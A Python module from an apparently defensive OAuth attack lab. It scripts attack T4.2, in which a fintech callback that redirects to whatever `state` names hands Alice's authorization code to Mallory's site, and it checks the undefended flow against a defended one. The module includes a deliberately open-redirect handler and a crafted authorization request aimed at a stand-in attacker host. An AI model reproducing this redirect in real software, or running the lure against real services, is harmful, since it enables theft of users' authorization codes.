"""The fintech's callback sends the browser on to wherever `state` says, and takes the code along.

The fintech keeps in `state` which page comes next. Its redirect URI is registered, and the bank compares it letter by
letter; but Mallory makes the request, and writes his own page into `state`. Alice sees her own bank and the fintech's
name, and approves. The bank answers to the right address, and the fintech hands the code on to Mallory.

Here the fault is the client's own, and the bank bounds the damage. Its consent page tells the browser where its form
may lead: to the bank, and to the client's host (`form-action`). A browser that applies this to redirects too, as
Chromium does, follows none to another host. Others do, so a client must not do this (T7D shows how ours refuses it).
"""

from __future__ import annotations

from urllib.parse import urlencode

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route

from examples.attack_lab.answers import NothingCame
from examples.attack_lab.attack import Attack
from examples.attack_lab.chromium import Tab
from examples.attack_lab.hostnames import MALLORYS, PENNY
from examples.attack_lab.lab import Lab
from examples.attack_lab.naive.bank import NaiveBank
from examples.attack_lab.story import Party, Story
from examples.attack_lab.street import Place

LOOT = "Alice's authorization code"
ALICE, BANK, FINTECH, MALLORY = Party.ALICE, Party.BANK, Party.FINTECH, Party.MALLORY
CHALLENGE = "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM"


class AskingBank(NaiveBank):
    """It asks Alice, and its page lets a form lead anywhere."""

    async def authorize(self, request: Request) -> Response:
        if request.method == "POST":
            return await super().authorize(request)
        return HTMLResponse('<form method="post"><button value="approve">Approve</button></form>')


async def forwarding(request: Request) -> Response:
    """The fintech's callback, which is an open redirector."""
    asked = request.query_params
    return RedirectResponse(f"{asked['state']}?{urlencode({'code': asked['code']})}", 303)


def undefended(lab: Lab, story: Story) -> str:
    place = Place(host=PENNY)
    bank = lab.naive_bank(AskingBank)
    bank.redirect_uris.append(f"{place.origin}/callback")
    return _lured(lab, story, place, f"{bank.issuer}/authorize", signs_in=False)


def defended(lab: Lab, story: Story) -> str:
    """The bank under OAuth 2.1, where a request may come in the URL. Under FAPI 2.0 Mallory could not even push it."""
    place = Place(host=PENNY)
    with lab.fresh("oauth-2.1", redirect_uri=f"{place.origin}/callback") as world:
        return _lured(lab, story, place, f"{world.bank.issuer}/authorize", signs_in=True)


def _lured(lab: Lab, story: Story, place: Place, endpoint: str, *, signs_in: bool) -> str:
    _, mallorys_origin = lab.mallorys_site(MALLORYS)
    lab.serve(Starlette(routes=[Route("/callback", forwarding)]), place)
    asked = {
        "client_id": "fintech",
        "response_type": "code",
        "scope": "accounts",
        "redirect_uri": f"{place.origin}/callback",
        "state": f"{mallorys_origin}/prize",
        "code_challenge": CHALLENGE,
        "code_challenge_method": "S256",
    }
    browser = lab.chromium()
    story.step(MALLORY, ALICE, "a link to Alice's own bank", "It is a request in the name of the fintech.")
    story.step(ALICE, BANK, "GET /authorize, state=Mallory's page", "Nothing in it is wrong for the bank.")
    browser.open(f"{endpoint}?{urlencode(asked)}")
    if signs_in:
        browser.submit({"username": "alice", "password": "wonderland"})
    story.step(ALICE, BANK, "POST the form, approve", "Bank and fintech are the ones that she knows.")
    story.step(ALICE, FINTECH, "GET /callback?code=...&state=Mallory's page", "The registered redirect URI.")
    story.step(FINTECH, ALICE, "303 to Mallory's page?code=...", "The state says where to go next.")
    return _approve(browser, story, f"{mallorys_origin}/prize")


def _approve(browser: Tab, story: Story, target: str) -> str:
    browser.press("[value=approve]", awaiting=target)
    if not browser.url.startswith(target):
        raise NothingCame(" ".join(browser.complaints), clause="RFC 9700 4.16")
    story.step(ALICE, MALLORY, "GET /prize?code=...", "Mallory reads the code out of the query.")
    assert "code=" in browser.url
    return LOOT


ATTACK = Attack(
    id="T4.2",
    title="a callback that goes where state says",
    loot=LOOT,
    countermeasures=("C7",),
    rule="NothingCame",
    clause="RFC 9700 4.16",
    defence="askit.pages.pages._source",
    without=lambda _uri: "https:",
    undefended=undefended,
    defended=defended,
    needs_browser=True,
)
